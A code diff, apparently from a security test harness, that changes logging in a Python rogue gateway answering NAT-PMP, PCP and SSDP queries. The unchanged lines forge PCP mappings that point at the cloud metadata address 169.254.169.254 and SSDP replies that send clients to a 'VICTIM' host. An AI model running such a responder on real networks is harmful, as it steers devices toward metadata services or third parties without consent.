@@ -2,11 +2,17 @@
 "old" one, by NAT-PMP; by UPnP it names somebody else as the place of its description. Says what it
 was asked, a line each."""
 
+import os
 import socket
 import sys
 import threading
 
 VICTIM, IS_OLD = sys.argv[1], sys.argv[2:] == ["old"]
+
+
+def say(*words):
+    # Both threads write: a line in one piece.
+    os.write(1, (" ".join(map(str, words)) + "\n").encode())
 
 
 def pcp():
@@ -21,13 +27,13 @@ def pcp():
             at.sendto(bytes([0, 0x80, 0, 0, 0, 0, 0, 9, 10, 0, 0, 1]), whom)
         elif asked[0] == 0 and asked[1] == 1:
             at.sendto(bytes([0, 0x81, 0, 0, 0, 0, 0, 9]) + asked[4:12], whom)
-            print("NAT-PMP lifetime", int.from_bytes(asked[8:12], "big"), flush=True)
+            say("NAT-PMP lifetime", int.from_bytes(asked[8:12], "big"))
         elif asked[0] == 2 and asked[1] == 1:
             # Success, for ever, at the metadata service of clouds, port 80.
             head = bytes([2, 0x81, 0, 0]) + bytes([255] * 4) + bytes([0, 0, 0, 9]) + bytes(12)
             outside = bytes(10) + bytes([255, 255, 169, 254, 169, 254])
             at.sendto(head + asked[24:42] + bytes([0, 80]) + outside, whom)
-            print("PCP", len(asked), "lifetime", int.from_bytes(asked[4:8], "big"), flush=True)
+            say("PCP", len(asked), "lifetime", int.from_bytes(asked[4:8], "big"))
 
 
 def ssdp():
@@ -38,7 +44,7 @@ def ssdp():
         kind = asked.split(b"ST:")[1].split(b"\r\n")[0].decode()
         answer = f"HTTP/1.1 200 OK\r\nST: {kind}\r\nLOCATION: http://{VICTIM}/d.xml\r\n\r\n"
         at.sendto(answer.encode(), whom)
-        print("SSDP", kind, flush=True)
+        say("SSDP", kind)
 
 
 for work in (pcp, ssdp):
